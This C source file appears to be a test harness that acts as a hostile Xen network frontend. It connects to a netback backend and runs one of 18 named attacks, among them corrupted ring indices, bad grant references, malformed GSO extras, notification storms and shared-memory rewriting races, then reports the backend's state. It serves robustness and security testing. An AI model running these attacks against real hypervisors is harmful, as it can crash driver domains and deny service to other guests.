/* A network frontend that means ill: hostile_frontend DEVICE ATTACK. It connects as netfront does (which must not be loaded), attacks
 * and prints the state in which the backend is afterwards. */
#define __XEN_TOOLS__ 1 /* the current interface, not that of old */
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <xenevtchn.h>
#include <xengnttab.h>
#include <xenstore.h>

#define xen_mb() __sync_synchronize()
#define xen_rmb() __sync_synchronize()
#define xen_wmb() __sync_synchronize()
#include <xen/xen.h>
#include <xen/grant_table.h>
#include <xen/io/netif.h>

enum { kPage = 4096, kStormSeconds = 1, kEventSeconds = 10, kFrame = 42 };

struct frontend {
  struct xs_handle* store;
  xengntshr_handle* grants;
  xenevtchn_handle* events;
  char path[64], backend[128];
  unsigned backend_domain;
  netif_tx_front_ring_t tx;
  netif_rx_front_ring_t rx;
  uint32_t tx_ref, rx_ref, page_ref;
  uint8_t* page;
  evtchn_port_t port;
};

static void fail(const char* what) {
  perror(what);
  exit(2);
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static long read_number(struct frontend* f, const char* directory, const char* key) {
  char path[192];
  unsigned size;
  snprintf(path, sizeof path, "%s/%s", directory, key);
  char* value = xs_read(f->store, XBT_NULL, path, &size);
  const long number = value == NULL ? -1 : strtol(value, NULL, 10);
  free(value);
  return number;
}

static void write_number(struct frontend* f, const char* key, long number) {
  char path[128], value[32];
  snprintf(path, sizeof path, "%s/%s", f->path, key);
  snprintf(value, sizeof value, "%ld", number);
  if (!xs_write(f->store, XBT_NULL, path, value, (unsigned)strlen(value))) fail(path);
}

static long backend_state(struct frontend* f) { return read_number(f, f->backend, "state"); }

/* The backend's state once it is `wanted`, or after `seconds`. */
static long wait_for_backend(struct frontend* f, long wanted, double seconds) {
  const double end = now() + seconds;
  while (backend_state(f) != wanted && now() < end) usleep(50000);
  return backend_state(f);
}

static void* share_page(struct frontend* f, uint32_t* ref) {
  void* page = xengntshr_share_pages(f->grants, f->backend_domain, 1, ref, 1);
  if (page == NULL) fail("sharing a page");
  memset(page, 0, kPage);
  return page;
}

static void open_device(struct frontend* f, const char* device) {
  f->store = xs_open(0);
  f->grants = xengntshr_open(NULL, 0);
  f->events = xenevtchn_open(NULL, 0);
  if (f->store == NULL || f->grants == NULL || f->events == NULL) fail("opening Xen's devices");
  snprintf(f->path, sizeof f->path, "device/vif/%s", device);
  char path[128];
  unsigned size;
  snprintf(path, sizeof path, "%s/backend", f->path);
  char* backend = xs_read(f->store, XBT_NULL, path, &size);
  if (backend == NULL) fail(path);
  snprintf(f->backend, sizeof f->backend, "%s", backend);
  free(backend);
  f->backend_domain = (unsigned)read_number(f, f->path, "backend-id");
}

/* netfront leaves its nodes behind, and a backend believes these before those that we write. */
static void remove_what_netfront_said(struct frontend* f) {
  static const char* const kKeys[] = {"event-channel-tx", "event-channel-rx", "multi-queue-num-queues"};
  char path[128];
  for (unsigned i = 0; i < sizeof kKeys / sizeof *kKeys; ++i) {
    snprintf(path, sizeof path, "%s/%s", f->path, kKeys[i]);
    xs_rm(f->store, XBT_NULL, path);
  }
}

static void connect_rings(struct frontend* f) {
  remove_what_netfront_said(f);
  write_number(f, "state", 1);
  if (wait_for_backend(f, 2, 60) != 2) fail("the backend does not wait for a frontend");
  netif_tx_sring_t* tx = share_page(f, &f->tx_ref);
  netif_rx_sring_t* rx = share_page(f, &f->rx_ref);
  SHARED_RING_INIT(tx);
  SHARED_RING_INIT(rx);
  FRONT_RING_INIT(&f->tx, tx, kPage);
  FRONT_RING_INIT(&f->rx, rx, kPage);
  f->page = share_page(f, &f->page_ref);
  const xenevtchn_port_or_error_t port = xenevtchn_bind_unbound_port(f->events, f->backend_domain);
  if (port < 0) fail("an event channel");
  f->port = (evtchn_port_t)port;
  write_number(f, "tx-ring-ref", f->tx_ref);
  write_number(f, "rx-ring-ref", f->rx_ref);
  write_number(f, "event-channel", (long)f->port);
  write_number(f, "request-rx-copy", 1);
  write_number(f, "feature-rx-notify", 1);
  write_number(f, "feature-sg", 1);
  write_number(f, "state", 4);
  if (wait_for_backend(f, 4, 60) != 4) fail("the backend does not connect");
}

/* An ARP request for the gateway's address: a correct packet, and one that is answered. */
static void write_arp_request(uint8_t* frame) {
  static const uint8_t request[kFrame] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x00, 0x16, 0x3e, 0x5e, 0x6c, 0x00, 0x08, 0x06,
                                          0,    1,    8,    0,    6,    4,    0,    1,    0x00, 0x16, 0x3e, 0x5e, 0x6c, 0x00,
                                          10,   137,  0,    11,   0,    0,    0,    0,    0,    0,    10,   137,  0,    1};
  memcpy(frame, request, sizeof request);
}

static netif_tx_request_t* next_request(struct frontend* f) { return RING_GET_REQUEST(&f->tx, f->tx.req_prod_pvt++); }

static void put(struct frontend* f, uint32_t ref, unsigned offset, unsigned flags, unsigned size) {
  *next_request(f) = (netif_tx_request_t){
      .gref = ref, .offset = (uint16_t)offset, .flags = (uint16_t)flags, .id = (uint16_t)f->tx.req_prod_pvt, .size = (uint16_t)size};
}

static void put_extra(struct frontend* f, unsigned type, unsigned flags, unsigned gso_type, unsigned gso_size) {
  struct netif_extra_info extra = {.type = (uint8_t)type, .flags = (uint8_t)flags};
  extra.u.gso.size = (uint16_t)gso_size;
  extra.u.gso.type = (uint8_t)gso_type;
  memcpy(next_request(f), &extra, sizeof extra);
}

static void publish(struct frontend* f) {
  xen_wmb();
  f->tx.sring->req_prod = f->tx.req_prod_pvt;
  xen_mb();
  xenevtchn_notify(f->events, f->port);
}

static void publish_producer(struct frontend* f, RING_IDX producer) {
  f->tx.req_prod_pvt = producer;
  publish(f);
}

/* What ends the vif: no correct frontend does it. */
static void producer_ahead(struct frontend* f) { publish_producer(f, 100000); }
static void producer_behind(struct frontend* f) { publish_producer(f, (RING_IDX)-1000); }
static void packet_cut_off(struct frontend* f) {
  put(f, f->page_ref, 0, NETTXF_more_data, 200);
  publish(f);
}
static void unknown_extra(struct frontend* f) {
  put(f, f->page_ref, 0, NETTXF_extra_info, kFrame);
  put_extra(f, 77, 0, 0, 0);
  publish(f);
}
static void endless_extras(struct frontend* f) {
  put(f, f->page_ref, 0, NETTXF_extra_info, kFrame);
  for (int i = 0; i < 200; ++i) put_extra(f, XEN_NETIF_EXTRA_TYPE_GSO, XEN_NETIF_EXTRA_FLAG_MORE, XEN_NETIF_GSO_TYPE_TCPV4, 1400);
  publish(f);
}
static void beyond_page(struct frontend* f) {
  put(f, f->page_ref, 4000, 0, 1000);
  publish(f);
}
static void absurd_size(struct frontend* f) {
  put(f, f->page_ref, 0xffff, 0, 0xffff);
  publish(f);
}
static void gso_of_zero(struct frontend* f) {
  put(f, f->page_ref, 0, NETTXF_extra_info, kFrame);
  put_extra(f, XEN_NETIF_EXTRA_TYPE_GSO, 0, XEN_NETIF_GSO_TYPE_TCPV4, 0);
  publish(f);
}
static void gso_of_no_type(struct frontend* f) {
  put(f, f->page_ref, 0, NETTXF_extra_info, kFrame);
  put_extra(f, XEN_NETIF_EXTRA_TYPE_GSO, 0, 99, 1400);
  publish(f);
}

/* What costs a packet. */
static void bad_grants(struct frontend* f) {
  static const uint32_t kRefs[] = {0, 0xffffffff, 0x7fffffff, 4000, 100000};
  for (unsigned i = 0; i < 60; ++i) put(f, kRefs[i % 5], 0, 0, 100);
  put(f, f->tx_ref, 0, 0, 1500); /* the ring itself as a packet */
  publish(f);
}
static void too_many_slots(struct frontend* f) {
  put(f, f->page_ref, 0, NETTXF_more_data, 20000);
  for (int i = 0; i < 100; ++i) put(f, f->page_ref, 0, i < 99 ? NETTXF_more_data : 0, 100);
  publish(f);
}
static void sizes_disagree(struct frontend* f) {
  put(f, f->page_ref, 0, NETTXF_more_data, 50);
  put(f, f->page_ref, 0, NETTXF_more_data, 4000);
  put(f, f->page_ref, 0, 0, 4000);
  publish(f);
}
static void empty_packets(struct frontend* f) {
  for (unsigned i = 0; i < 100; ++i) put(f, f->page_ref, i, 0, i % 14);
  publish(f);
}
static void bad_rx_grants(struct frontend* f) {
  write_arp_request(f->page);
  for (unsigned i = 0; i < 200; ++i) *RING_GET_REQUEST(&f->rx, i) = (netif_rx_request_t){.id = (uint16_t)i, .gref = 0x10000 + i};
  f->rx.sring->req_prod = 200;
  for (int i = 0; i < 100; ++i) put(f, f->page_ref, 0, 0, kFrame);
  publish(f);
}

/* Correct packets, and notifications about nothing, as fast as it goes. */
static void storm(struct frontend* f) {
  write_arp_request(f->page);
  for (double end = now() + kStormSeconds; now() < end;) {
    while (f->tx.req_prod_pvt - f->tx.sring->rsp_prod < 200) put(f, f->page_ref, 0, 0, kFrame);
    publish(f);
    for (int i = 0; i < 50; ++i) xenevtchn_notify(f->events, f->port);
  }
}

/* Notifications about nothing, and nothing else, for longer than anybody waits. */
static void events(struct frontend* f) {
  for (double end = now() + kEventSeconds; now() < end;) {
    for (int i = 0; i < 100; ++i) xenevtchn_notify(f->events, f->port);
  }
}

/* Requests that change while they are read, and packets with them. */
static void rewriting(struct frontend* f) {
  const pid_t scribbler = fork();
  if (scribbler == 0) {
    for (unsigned seed = 1;; seed = seed * 1103515245 + 12345) {
      ((volatile uint32_t*)f->tx.sring->ring)[seed >> 8 & 511] = seed;
      ((volatile uint32_t*)f->page)[seed >> 16 & 1023] = seed;
    }
  }
  storm(f);
  kill(scribbler, SIGKILL);
}

/* Gone without a word: what it shared is taken back while the backend uses it. */
static void nodes_removed(struct frontend* f) {
  if (!xs_rm(f->store, XBT_NULL, f->path)) fail("removing its own nodes");
}

static const struct {
  const char* name;
  void (*run)(struct frontend*);
} kAttacks[] = {
    {"producer-ahead", producer_ahead},   {"producer-behind", producer_behind}, {"packet-cut-off", packet_cut_off},
    {"unknown-extra", unknown_extra},     {"endless-extras", endless_extras},   {"beyond-page", beyond_page},
    {"absurd-size", absurd_size},         {"gso-of-zero", gso_of_zero},         {"gso-of-no-type", gso_of_no_type},
    {"bad-grants", bad_grants},           {"too-many-slots", too_many_slots},   {"sizes-disagree", sizes_disagree},
    {"empty-packets", empty_packets},     {"bad-rx-grants", bad_rx_grants},     {"storm", storm},
    {"events", events},                   {"rewriting", rewriting},
    {"nodes-removed", nodes_removed},
};

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  for (size_t i = 0; i < sizeof kAttacks / sizeof kAttacks[0]; ++i) {
    if (strcmp(argv[2], kAttacks[i].name) != 0) continue;
    struct frontend f;
    memset(&f, 0, sizeof f);
    open_device(&f, argv[1]);
    connect_rings(&f);
    kAttacks[i].run(&f);
    /* Long enough for what happens to have happened; a backend that is shut is seen at once. */
    printf("backend %ld\n", wait_for_backend(&f, 6, 4));
    return 0;
  }
  fprintf(stderr, "no such attack: %s\n", argv[2]);
  return 2;
}
